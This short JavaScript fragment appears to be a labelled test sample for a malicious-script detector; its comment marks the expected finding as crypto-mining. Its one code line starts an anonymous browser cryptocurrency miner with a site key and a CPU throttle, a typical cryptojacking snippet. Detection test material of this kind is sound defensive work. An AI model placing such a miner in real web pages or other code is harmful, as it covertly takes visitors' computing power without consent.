// expect: crypto-mining
var miner=new Client.Anonymous("5f2a9c0b7d1e4f6a8b3c5d7e9f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c",{throttle:.5});miner.start();
